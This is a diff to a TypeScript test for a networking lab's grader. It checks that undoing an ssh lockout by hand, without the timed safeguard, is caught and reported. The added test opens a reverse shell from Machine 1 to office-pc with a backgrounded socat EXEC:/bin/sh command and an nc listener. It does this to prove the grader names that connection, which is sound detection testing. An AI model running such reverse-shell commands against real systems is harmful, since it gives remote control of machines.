@@ -16,8 +16,9 @@ import { newSessionId, testRuntime } from '../support/labRuntime';
 /**
  * The safeguard step (a change that undoes itself while ssh is cut) on a real lab, judged
  * through the lab journal: an honest timed rollback passes however the learner's shell lies,
- * and the two hands that could reach Machine 1 during the cut – its console, and an ssh
- * session the cut left open – are each caught and named.
+ * and the hands that could reach Machine 1 during the cut – its console, an ssh session the cut
+ * left open, a connection opened during the cut or one open since before it – are each caught
+ * and named.
  */
 const { runtime, namespace } = testRuntime('safeguard');
 const id = newSessionId();
@@ -112,6 +113,32 @@ describe('a lockout undone by hand is not credited to a safeguard', () => {
     expect(verdict.passed).toBe(false);
     expect(verdict.message).toMatch(new RegExp(`Machine 1 connected to ${pc.replace(/\./g, '\\.')} port 4444`));
     expect((await found()).at(-1)?.typed).toEqual([]);
+  }, 600_000);
+
+  it('restoring through a shell connected to office-pc before the cut fails, naming the connection and its bytes', async () => {
+    const { pc, m1Office } = a();
+    await driver.terminals.type('office-pc', 'nc -l -p 4445\r');
+    await pause(1_500);
+    await sshIn(ctx());
+    // Before the cut: a shell on Machine 1 calls office-pc and stays connected. The cut leaves it alone.
+    await inSsh(`(socat TCP:${pc}:4445 EXEC:/bin/sh >/dev/null 2>&1 &); sleep 2; echo READY$((40+2))`, /READY42/);
+    await ctx().typeLine('machine2', cutOutright);
+    await pause(10_000);
+    await driver.terminals.type('office-pc', `iptables -D ${CHAIN} 1\r`);
+    await sshOut(ctx());
+    await driver.terminals.type('office-pc', '\x03');
+    const verdict = await driver.check('safeguard');
+    expect(verdict.passed).toBe(false);
+    const dots = (s: string) => s.replace(/\./g, '\\.');
+    expect(verdict.message).toMatch(
+      new RegExp(
+        `Machine 1's connection between ${dots(m1Office)} port \\d+ and ${dots(pc)} port 4445 received \\d+ bytes from ${dots(pc)} while ssh was cut`,
+      ),
+    );
+    const last = (await found()).at(-1);
+    expect(last?.typed).toEqual([]);
+    expect(last?.otherWay).toBeUndefined();
+    expect(last?.leaky).toBeUndefined();
   }, 600_000);
 });
 
